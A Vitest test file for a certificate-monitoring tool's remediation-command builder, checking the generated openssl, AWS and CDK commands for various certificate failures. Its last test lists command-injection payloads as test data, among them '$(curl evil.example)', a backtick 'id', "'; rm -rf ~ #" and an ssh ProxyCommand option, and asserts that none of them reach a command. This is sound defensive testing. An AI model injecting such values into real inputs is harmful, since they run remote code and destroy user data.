import { expect, test } from 'vitest';
import { commandFor } from '#shared/finish/alert/commands.ts';
import type { Condition, ConditionType } from '#shared/status/condition.ts';
import { conditionTypes } from '#shared/status/condition.ts';
import { troubled } from '#test/support/fleet-status.ts';

const installation = { name: 'certkeep', account: '123456789012', region: 'eu-central-1' };

function command(change: Partial<Condition>, name: string | null = 'shop.example.com') {
  const condition = { ...troubled(), ...change };
  return commandFor({ certificate: 'shop', condition }, { installation, name });
}

test('a certificate for a wildcard is asked for at a name below it', () => {
  expect(command({ type: 'Served', about: 'web:8443 (eu-central-1)' }, '*.example.com')).toContain(
    '-connect www.example.com:8443 -servername www.example.com ',
  );
});

test('a secret is restored only where it is marked for deletion', () => {
  const marked = command({ type: 'Stored', reason: 'SecretMarkedForDeletion' });
  expect(marked).toMatch(/restore-secret --secret-id certkeep\/shop /);
  expect(command({ type: 'Stored', reason: 'SecretMissing' })).toContain('describe-secret');
});

test('a listener that is gone is a matter of the configuration', () => {
  for (const type of ['Served', 'Deployed'] as const) {
    expect(command({ type, reason: 'ListenerNotFound' })).toBe('npx cdk deploy --all');
  }
});

test('a key that others may know is replaced', () => {
  const forced = command({ type: 'Issued', reason: 'Revoked' });
  expect(forced).toContain('{"certificates":["shop"],"force":true,"reason":"after Revoked"}');
  expect(forced).toContain(' --function-name certkeep-check:force ');
});

test('everybody with the same trouble is retried, as far as a shell takes it', () => {
  const condition = troubled({ reason: 'IssuerUnreachable' });
  const of = (certificates: readonly string[]) =>
    commandFor({ certificate: 'shop', condition }, { installation, name: null, certificates });
  expect(of(['blog', 'shop'])).toContain(
    '{"certificates":["blog","shop"],"retry":true,"reason":"after IssuerUnreachable"}',
  );
  const many = Array.from({ length: 10_000 }, (_, index) => `site-${index}`);
  expect(of(many).length).toBeLessThan(3_000);
});

test('before a retry, the CA that CAA records forbid is allowed', () => {
  const message =
    'CaaForbids: a.example: CAA at a.example: issue "b.example": the CA (c.example) is not allowed to issue';
  const commands = command({ message }).split(' && ');
  expect(commands.some((each) => each.startsWith('aws route53 wait '))).toBe(true);
  expect(commands.at(-1)).toContain('"retry":true');
});

const hostile = [
  '$(curl evil.example)',
  '`id`',
  "'; rm -rf ~ #",
  'a b',
  '-oProxyCommand=x',
  'a\nb',
];

test.each(hostile)('%j, which others have written, is no part of a command', (text) => {
  for (const type of Object.keys(conditionTypes) as ConditionType[]) {
    for (const reason of [
      'EarlierArnUsed',
      'SecretMissing',
      'EndpointContradicted',
      'Revoked',
      'CaaForbids',
      text,
    ]) {
      const message = `x: CAA at ${text}: issue "a": the CA (${text}) is not allowed to issue`;
      const condition = { ...troubled(), type, reason, about: text, message };
      const certificates = [text];
      const said = commandFor(
        { certificate: text, condition },
        { installation, name: text, certificates },
      );
      expect(said).not.toContain(text);
    }
  }
});
